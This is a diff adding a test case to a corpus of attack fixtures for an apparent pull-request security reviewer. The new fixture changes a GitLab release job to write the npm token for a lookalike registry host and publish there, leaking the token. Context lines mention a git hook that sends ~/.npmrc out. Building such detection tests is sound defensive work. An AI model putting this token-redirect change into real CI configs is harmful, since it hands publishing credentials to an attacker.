@@ -3846,6 +3846,26 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
   },
   {
+    id: 'attack-gitlab-release-npm-token-to-other-registry',
+    description:
+      "The token redirect outside GitHub Actions: a \"publish through the registry cache\" PR changes a GitLab release job to write the npm auth line for a host spelled like the npm registry and publish there; npm hands $NPM_TOKEN to whoever runs that host, with no curl anywhere.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7647,
+        title: 'ci: publish through the registry cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.gitlab-ci.yml',
+            base: lines('stages: [test, release]', 'test:', '  stage: test', '  script:', '    - npm ci', '    - npm test', 'release:', '  stage: release', '  only: [tags]', '  script:', '    - echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc', '    - npm publish'),
+            head: lines('stages: [test, release]', 'test:', '  stage: test', '  script:', '    - npm ci', '    - npm test', 'release:', '  stage: release', '  only: [tags]', '  script:', '    - echo "//registry.npmjs-cache.org/:_authToken=${NPM_TOKEN}" > .npmrc', '    - npm publish --registry https://registry.npmjs-cache.org/'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['publish-token-redirect'] },
+  },
+  {
     id: 'attack-husky-hook-sends-npmrc',
     description:
       'The s1ngularity inventory in a git hook: a "lint-staged on commit" PR adds a husky pre-commit hook that, in the background, posts the committer\'s e-mail and ~/.npmrc (the npm token) to an ordinary-looking host; every contributor who commits runs it.',
